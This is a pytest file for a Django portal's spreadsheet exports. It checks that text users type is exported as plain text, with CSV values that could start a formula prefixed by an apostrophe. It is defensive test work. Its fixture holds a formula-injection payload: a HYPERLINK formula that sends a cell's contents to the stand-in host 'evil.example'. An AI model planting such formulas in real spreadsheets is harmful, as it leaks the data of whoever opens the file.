"""Text typed in the portal never runs as a formula in the spreadsheets it exports."""

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from tests import factories as f

pytestmark = pytest.mark.django_db

PAYLOAD = '=HYPERLINK("https://evil.example/?d="&A2,"Voir la fiche")'


@pytest.fixture
def poisoned_plan(convention):
    owner = f.OrganisationFactory(name="+SUM(1,1)")
    axis = f.AxisFactory(convention=convention, number=1)
    action = f.ActionFactory(axis=axis, title=PAYLOAD, code="@1", project_owner=owner, costed=True)
    f.FundingFactory(action=action, funder=f.OrganisationFactory(name="-2+3"), year=2025)
    return action


def text_cells(workbook):
    return {
        cell.value: cell.data_type
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str)
    }


@pytest.mark.parametrize("export", ["reporting:plan_xlsx", "reporting:financial_model_xlsx"])
def test_xlsx_keeps_typed_text_as_text(client, reader, convention, poisoned_plan, export):
    client.force_login(reader)
    response = client.get(reverse(export, args=[convention.pk]))
    cells = text_cells(load_workbook(io.BytesIO(response.content)))
    typed = [value for value in cells if PAYLOAD in value or "SUM(1,1)" in value]
    assert typed, "the typed text is exported"
    assert {cells[value] for value in typed} == {"s"}
    assert all(cells[value] == "s" for value in cells if value.startswith(("-2+3", "+SUM")))


def test_csv_prefixes_text_that_would_start_a_formula(client, reader, convention, poisoned_plan):
    client.force_login(reader)
    response = client.get(reverse("reporting:plan_csv", args=[convention.pk]))
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    action_row = next(row for row in rows if PAYLOAD in "".join(row))
    assert f"'{PAYLOAD}" in action_row
    assert "'@1" in action_row and "'+SUM(1,1)" in action_row
    assert not any(value.startswith(("=", "+", "@")) for row in rows for value in row)
